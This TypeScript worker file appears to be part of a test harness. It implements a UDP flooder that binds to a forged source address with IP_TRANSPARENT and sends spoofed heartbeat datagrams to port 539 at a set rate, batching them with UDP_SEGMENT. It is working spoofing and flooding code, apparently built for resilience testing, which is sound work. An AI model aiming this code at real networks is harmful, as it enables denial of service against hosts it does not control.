/**
 * A flooder's thread: forged heartbeats from the peer's own address and port, as fast as asked.
 *
 * The socket is bound to an address that is not here (IP_TRANSPARENT, ip(7)), and the kernel cuts
 * each call's bytes into datagrams (UDP_SEGMENT, udp(7)), so that the flood costs the flooder
 * little of the processors that it shares with its victims. IPv4. It ends by itself, after as many
 * datagrams as asked for or at its time limit.
 */
import { setPriority } from "node:os";
import { workerData } from "node:worker_threads";
import koffi from "koffi";
import { now } from "../instruments/clock.ts";
import { serveQuestions } from "../machine/resident-side.ts";

export interface FloodOptions {
  /** Whom it pretends to be, and whom it floods. */
  readonly from: string;
  readonly to: string;
  /** One datagram's bytes, all of one length; sent in turn. */
  readonly payloads: readonly Uint8Array[];
  /** Datagrams a second, and for how many seconds. */
  readonly rate: number;
  readonly seconds: number;
}

export interface FloodReport {
  readonly sent: number;
  readonly tookMs: number;
}

const libc = koffi.load("libc.so.6");
const openSocket = libc.func("int socket(int, int, int)");
const setOption = libc.func("int setsockopt(int, int, int, void*, uint32_t)");
const bindTo = libc.func("int bind(int, void*, uint32_t)");
const sendTo = libc.func("long sendto(int, void*, size_t, int, void*, uint32_t)");

const heartbeatPort = 539;
const inet = 2;
const datagram = 2;
const transparent = { level: 0, name: 19 };
const segment = { level: 17, name: 103 };
/** udp.h: UDP_MAX_SEGMENTS. */
const segmentsMax = 64;
/** All machines share the processors: the victims come first. */
const niceness = 10;

const { from, to, payloads, rate, seconds } = workerData as FloodOptions;

function endpoint(address: string): Buffer {
  const place = Buffer.alloc(16);
  place.writeUInt16LE(inet, 0);
  place.writeUInt16BE(heartbeatPort, 2);
  Buffer.from(address.split(".").map(Number)).copy(place, 4);
  return place;
}

function intOption(socket: number, { level, name }: typeof segment, value: number): void {
  const bytes = Buffer.alloc(4);
  bytes.writeInt32LE(value);
  if (setOption(socket, level, name, bytes, bytes.length) !== 0)
    throw new Error(`the kernel refused option ${name} of level ${level}`);
}

const length = payloads[0]?.length ?? 0;
if (length === 0 || payloads.some((payload) => payload.length !== length))
  throw new Error("a flood needs payloads of one length");
const socket = openSocket(inet, datagram, 0) as number;
intOption(socket, transparent, 1);
intOption(socket, segment, length);
const source = endpoint(from);
if (bindTo(socket, source, source.length) !== 0) throw new Error(`${from} cannot be bound`);
const target = endpoint(to);
const batch = Buffer.concat(
  Array.from({ length: segmentsMax }, (_, index) => {
    return payloads[index % payloads.length] ?? new Uint8Array(length);
  }),
);
const pause = new Int32Array(new SharedArrayBuffer(4));

serveQuestions((): FloodReport => {
  setPriority(0, niceness);
  const began = now();
  const total = rate * seconds;
  let sent = 0;
  while (sent < total && now() - began < seconds * 1000) {
    const due = Math.min(total, ((now() - began) * rate) / 1000) - sent;
    // A full queue refuses a batch: it is not sent, and not counted.
    if (due < segmentsMax) Atomics.wait(pause, 0, 0, 0.5);
    else if ((sendTo(socket, batch, batch.length, 0, target, target.length) as number) > 0)
      sent += segmentsMax;
  }
  return { sent, tookMs: now() - began };
});
